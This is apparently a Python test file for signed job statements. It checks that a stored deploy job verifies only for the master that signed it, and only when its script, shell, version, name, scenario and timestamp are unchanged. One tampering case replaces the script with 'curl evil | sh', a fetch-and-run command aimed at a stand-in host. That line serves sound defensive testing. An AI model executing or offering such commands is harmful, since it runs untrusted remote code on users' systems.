"""Signed job statements: a master uses a stored job only as it signed it, whatever the hub keeps."""

from __future__ import annotations

import secrets
from typing import Any

import pytest

from protocol import ErrorCode, Identity, ProtocolError
from protocol.jobs import ANY_SCENARIO, JobStatement
from tests.protocol.support import NOW


def _identity() -> Identity:
    return Identity.generate(secrets.token_bytes)


def _statement(master: Identity, scenario: str = ANY_SCENARIO, version: int = 2) -> JobStatement:
    return JobStatement("", scenario, "deploy", version, "sh", "echo deploy\n", NOW).signed(master)


def test_a_signed_statement_verifies_for_its_master_and_survives_the_wire_in_both_forms() -> None:
    master = _identity()
    statement = _statement(master)
    assert statement.master == master.id
    for decoded in (
        JobStatement.from_wire(statement.to_wire()),
        JobStatement.from_wire(statement.unsigned_wire(), statement.signature),
    ):
        assert decoded == statement
        decoded.verify(master.public, "deploy", scenario="shop", version=2)


def test_another_masters_statement_is_refused_even_when_it_claims_this_masters_id() -> None:
    master, other = _identity(), _identity()
    with pytest.raises(ProtocolError, match="not signed by this master"):
        _statement(other).verify(master.public, "deploy")
    claimed = JobStatement.from_wire({**_statement(other).to_wire(), "master": master.id})
    with pytest.raises(ProtocolError) as caught:
        claimed.verify(master.public, "deploy")
    assert caught.value.code is ErrorCode.BAD_SIGNATURE


@pytest.mark.parametrize(
    ("field", "value"),
    [("script", "curl evil | sh\n"), ("shell", "powershell"), ("version", 3), ("name", "backup"),
     ("scenario", "prod"), ("created", NOW + 1)],
)  # fmt: skip
def test_any_changed_field_breaks_the_signature(field: str, value: Any) -> None:
    master = _identity()
    changed = JobStatement.from_wire({**_statement(master).to_wire(), field: value})
    with pytest.raises(ProtocolError) as caught:
        changed.verify(master.public, str(changed.name))
    assert caught.value.code is ErrorCode.BAD_SIGNATURE


def test_a_statement_of_another_job_is_refused_though_its_signature_is_good() -> None:
    master = _identity()
    with pytest.raises(ProtocolError, match="job 'deploy''s") as caught:
        _statement(master).verify(master.public, "backup")
    assert caught.value.code is ErrorCode.BAD_SIGNATURE


def test_a_statement_for_one_scenario_runs_only_there() -> None:
    master = _identity()
    limited = _statement(master, scenario="shop")
    limited.verify(master.public, "deploy", scenario="shop")
    limited.verify(master.public, "deploy")  # shown without a scenario in mind
    with pytest.raises(ProtocolError, match="scenario 'shop' only, not 'prod'") as caught:
        limited.verify(master.public, "deploy", scenario="prod")
    assert caught.value.code is ErrorCode.WRONG_TARGET
    _statement(master).verify(master.public, "deploy", scenario="prod")


def test_a_version_asked_for_must_be_exactly_the_one_signed() -> None:
    master = _identity()
    for asked in (1, 3):
        with pytest.raises(ProtocolError, match=f"version 2, not version {asked}"):
            _statement(master).verify(master.public, "deploy", version=asked)


def test_an_unsigned_statement_does_not_verify() -> None:
    master = _identity()
    unsigned = JobStatement(master.id, "", "deploy", 1, "sh", "echo", NOW)
    with pytest.raises(ProtocolError) as caught:
        unsigned.verify(master.public, "deploy")
    assert caught.value.code is ErrorCode.BAD_SIGNATURE


@pytest.mark.parametrize(
    "raw",
    [None, [], {"name": "deploy"}, {**_statement(_identity()).to_wire(), "version": 0},
     {**_statement(_identity()).to_wire(), "version": True}, {**_statement(_identity()).to_wire(), "version": "2"},
     {**_statement(_identity()).to_wire(), "created": "now"}, {**_statement(_identity()).to_wire(), "script": None},
     {**_statement(_identity()).to_wire(), "signature": "text"}],
)  # fmt: skip
def test_a_malformed_statement_is_a_bad_field(raw: object) -> None:
    with pytest.raises(ProtocolError) as caught:
        JobStatement.from_wire(raw)
    assert caught.value.code is ErrorCode.BAD_FIELD


def test_the_signed_payload_is_domain_separated_and_deterministic() -> None:
    master = _identity()
    statement = _statement(master)
    assert statement.signing_payload() == JobStatement.from_wire(statement.to_wire()).signing_payload()
    assert b"crc-job-v1" in statement.signing_payload()
